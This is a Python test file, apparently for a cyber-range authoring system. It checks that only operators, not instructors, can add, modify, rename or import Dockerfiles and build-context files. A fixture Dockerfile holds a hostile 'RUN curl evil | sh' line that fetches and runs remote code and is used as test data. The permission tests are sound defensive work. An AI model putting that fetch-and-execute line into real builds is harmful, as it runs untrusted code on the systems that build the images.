"""Dockerfiles come from operators only: every way in which an author might bring one."""

import io

import pytest

from range.authoring import drafts
from range.authoring.build_contexts import BuildsRefused
from range.authoring.draft_opening import from_archive, from_format, from_skeleton, from_version
from range.authoring.draft_publishing import publish
from range.authoring.drafts import Change
from range.catalog.source import File
from tests.authoring.hostile_archives import zipped

pytestmark = pytest.mark.django_db
DOCKERFILE = "machines/desk/Dockerfile"
EVIL = File(data=b"ARG BASE\nFROM ${BASE}\nRUN curl evil | sh\n")


@pytest.fixture
def draft(instructor, school):
    return from_skeleton("open-drawer", kind="attack", author=instructor, organisation=school)


def put(draft, author, **files):
    before = drafts.files_of(draft)
    changes = {
        path: Change(file=file, base=before[path].sha256 if path in before else None)
        for path, file in files.items()
    }
    return drafts.change(draft.pk, changes, author=author)


def archive_of(draft, more=None):
    files = {path: file.data for path, file in drafts.files_of(draft).items()} | (more or {})
    return zipped((f"mine/{path}", data) for path, data in files.items())


@pytest.mark.parametrize(
    "path",
    [
        DOCKERFILE,
        "machines/desk/extra.sh",
        "machines/desk/deep/er.sh",
        "machines/desk/.dockerignore",
        "machines/new/Dockerfile",
        "machines/new/dockerfile",
        "machines/new/Containerfile",
        "machines/new/web.Dockerfile",
        "machines/new/Dockerfile.web",
        "Dockerfile",
        "knowledge/Dockerfile",
        "machines/Dockerfile",
    ],
)
def test_an_author_can_neither_add_nor_change_what_builds_images(draft, instructor, path):
    before = dict(draft.files)
    with pytest.raises(BuildsRefused):
        put(draft, instructor, **{path: EVIL})
    draft.refresh_from_db()
    assert (draft.revision, draft.files) == (1, before)


def test_an_operator_can(draft, administrator):
    assert put(draft, administrator, **{DOCKERFILE: EVIL}).revision == 2


def test_an_author_cannot_make_a_file_runnable_or_take_one_away(draft, instructor, administrator):
    there = drafts.files_of(draft)[DOCKERFILE]
    with pytest.raises(BuildsRefused):
        put(draft, instructor, **{DOCKERFILE: File(data=there.data, executable=True)})
    inner = "machines/desk/files/motd"
    both = {inner: File(data=b"Hello\n"), "machines/desk/files/hosts": File(data=b"\n")}
    more = put(draft, administrator, **both)
    with pytest.raises(BuildsRefused):
        put(more, instructor, **{inner: None})


def test_an_author_cannot_put_an_operators_dockerfile_beside_files_of_their_own(draft, instructor):
    there = drafts.files_of(draft)[DOCKERFILE]
    with pytest.raises(BuildsRefused):
        put(draft, instructor, **{"seed/Dockerfile": there, "seed/run.sh": EVIL})
    put(draft, instructor, **{"seed/run.sh": EVIL})
    with pytest.raises(BuildsRefused):
        drafts.rename_file(draft.pk, DOCKERFILE, "seed/Dockerfile", author=instructor)
    with pytest.raises(BuildsRefused):
        drafts.rename_file(
            draft.pk,
            "seed/run.sh",
            "machines/desk/run.sh",
            author=instructor,
        )


def test_a_whole_context_may_move_or_go(draft, instructor):
    files = drafts.files_of(draft)
    inside = {path: file for path, file in files.items() if path.startswith("machines/desk/")}
    moved = put(
        draft,
        instructor,
        **dict.fromkeys(inside),
        **{path.replace("desk", "other"): file for path, file in inside.items()},
    )
    gone = put(moved, instructor, **dict.fromkeys(p for p in moved.files if "machines" in p))
    assert not any("machines" in path for path in gone.files)


def test_an_authors_archive_loses_its_builds_and_says_so(draft, instructor, school):
    made = from_archive(
        io.BytesIO(archive_of(draft, {DOCKERFILE: EVIL.data})),
        name="mine.zip",
        author=instructor,
        organisation=school,
    )
    assert not any(path.startswith("machines/desk") for path in made.files)
    assert "brief.md" in made.files
    assert "machines/desk" in made.report


def test_an_operators_archive_keeps_them(draft, administrator, school):
    made = from_archive(
        io.BytesIO(archive_of(draft, {DOCKERFILE: EVIL.data})),
        name="mine.zip",
        author=administrator,
        organisation=school,
    )
    assert made.files[DOCKERFILE] == {"text": EVIL.data.decode()}
    assert made.report == ""


def test_builds_of_a_published_version_may_come_back_in_an_archive(
    draft, administrator, instructor, school
):
    changed = put(draft, administrator, **{DOCKERFILE: EVIL})

    def brought(more=None):
        archive = io.BytesIO(archive_of(changed, more))
        return from_archive(archive, name="a.zip", author=instructor, organisation=school)

    assert DOCKERFILE not in brought().files
    publish(changed.pk, author=administrator, revision=2)
    assert DOCKERFILE in brought().files
    # With one byte more it is another one.
    assert DOCKERFILE not in brought({"machines/desk/more": b"x"}).files


def test_a_version_opened_by_an_author_keeps_its_builds_and_guards_them(
    draft, administrator, instructor, school
):
    version = publish(draft.pk, author=administrator, revision=1).version
    opened = from_version(version, author=instructor, organisation=school)
    assert opened.files == draft.files
    with pytest.raises(BuildsRefused):
        put(opened, instructor, **{DOCKERFILE: EVIL})


def test_a_restored_revision_brings_back_only_what_was_there(draft, instructor, administrator):
    put(draft, administrator, **{DOCKERFILE: EVIL})
    back = drafts.restore(draft.pk, 1, author=instructor)
    assert back.files == draft.files


def test_an_import_in_another_format_cannot_smuggle_one(instructor, school, tmp_path):
    export = {
        "db/challenges.json": b'{"results": [{"id": 1, "name": "Smuggled", "value": 100, '
        b'"description": "x", "category": "misc"}]}',
        "db/files.json": b'{"results": [{"challenge_id": 1, "location": "aa/Dockerfile"}]}',
        "uploads/aa/Dockerfile": EVIL.data,
    }
    source = tmp_path / "export.zip"
    source.write_bytes(zipped(export.items()))
    (made,) = from_format(source, form="ctfd", author=instructor, organisation=school)
    assert not any("ockerfile" in path for path in made.files)
    assert "Left out" in made.report
